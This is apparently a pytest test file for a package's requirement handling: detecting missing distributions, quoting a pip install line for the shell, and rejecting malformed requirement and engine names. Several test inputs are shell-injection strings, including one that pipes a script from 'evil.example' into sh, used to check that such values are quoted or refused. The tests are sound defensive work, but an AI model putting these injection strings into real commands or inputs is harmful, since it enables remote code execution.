"""Which distributions are missing, and how to install them."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import importlib_metadata
import pytest

from zoo_core.requirements import (
    check_engine,
    check_requirement,
    core_metadata,
    engine_package,
    install_line,
    missing_requirements,
)


@pytest.mark.parametrize(
    "requirement",
    [
        "acme-nets",
        "acme_nets",
        "Acme.Nets",
        "acme-nets==1.5",
        "acme-nets>=1.0",
        "acme-nets>=1.0,<2",
        "acme-nets ~= 1.4",
        "acme-nets[extra]>=1",
        "other; python_version < '3'",
        "other; extra == 'vision'",
    ],
)
def test_what_is_installed_in_a_version_that_will_do_is_not_missing(install: Callable[..., Path], requirement: str) -> None:
    install("acme-nets", "1.5")
    assert missing_requirements([requirement]) == ()


@pytest.mark.parametrize(
    "requirement", ["other", "acme-nets>=2", "acme-nets==1.4", "acme-nets<1.5", "acme-nets>=1.0,<1.2", "not a requirement", ""]
)
def test_what_is_absent_too_old_too_new_or_malformed_is_missing(install: Callable[..., Path], requirement: str) -> None:
    install("acme-nets", "1.5")
    assert missing_requirements([requirement]) == (requirement,)


def test_what_is_installed_in_a_version_that_nobody_can_read_is_missing(install: Callable[..., Path]) -> None:
    install("acme-nets", "not.a.version")
    assert missing_requirements(["acme-nets>=1.0"]) == ("acme-nets>=1.0",)


def test_a_pre_release_that_is_installed_will_do(install: Callable[..., Path]) -> None:
    install("acme-nets", "2.0a1")
    assert missing_requirements(["acme-nets>=1.5"]) == ()
    assert missing_requirements(["acme-nets>=2.0"]) == ("acme-nets>=2.0",)


def test_missing_ones_are_sorted_without_repetition() -> None:
    assert missing_requirements(["zebra", "acme", "zebra"]) == ("acme", "zebra")


@pytest.mark.parametrize(
    ("requires", "line"),
    [
        (["zoo-mxnet"], "pip install zoo-mxnet"),
        (["zoo-pytorch>=0.1", "acme"], 'pip install acme "zoo-pytorch>=0.1"'),
        (["zoo-core[vision]"], 'pip install "zoo-core[vision]"'),
        (["a!=1.0"], "pip install 'a!=1.0'"),
        (["$(touch /tmp/x)", 'x"; ls #'], """pip install '$(touch /tmp/x)' 'x"; ls #'"""),
        (["b", "b"], "pip install b"),
    ],
)
def test_the_install_line_can_be_pasted_into_a_shell(requires: list[str], line: str) -> None:
    assert install_line(requires) == line


def test_the_package_of_an_engine_is_named_after_it() -> None:
    assert engine_package("PyTorch") == "zoo-pytorch"


def test_the_header_of_a_distribution_is_read_without_its_description(install: Callable[..., Path]) -> None:
    install("acme-nets", "1.5", requires=("zoo-core>=0.1", "numpy"))
    found = core_metadata(importlib_metadata.distribution("acme-nets"))
    assert (found["Name"], found["Version"], found["Requires-Dist"]) == (["acme-nets"], ["1.5"], ["zoo-core>=0.1", "numpy"])


def test_the_header_read_here_is_the_one_that_the_standard_reader_gives() -> None:
    distribution = importlib_metadata.distribution("zoo-core")
    found = core_metadata(distribution)
    assert found["Name"] == [distribution.metadata["Name"]]
    assert found["Version"] == [distribution.version]
    assert sorted(found["Requires-Dist"]) == sorted(distribution.requires or [])


@pytest.mark.parametrize(
    "text", ["$(touch /tmp/x)", 'x"; curl evil.example|sh #', "x @ https://evil.example/x.zip", "", "-r evil.txt", "a b"]
)
def test_what_is_no_requirement_never_becomes_one(text: str) -> None:
    with pytest.raises(ValueError, match=r"is no requirement such as|names an address"):
        check_requirement(text)


@pytest.mark.parametrize(
    "text", ["acme", "acme-nets>=1.2,<2", "acme[extra]==1.0", "a; python_version > '3'", "acme.nets ~= 1.0"]
)
def test_a_requirement_is_taken_as_it_stands(text: str) -> None:
    assert check_requirement(text) == text


@pytest.mark.parametrize("name", ["$(x)", "a b", "", "-e", "x" * 65])
def test_an_engine_has_a_plain_name(name: str) -> None:
    with pytest.raises(ValueError, match="is no engine's name"):
        check_engine(name)
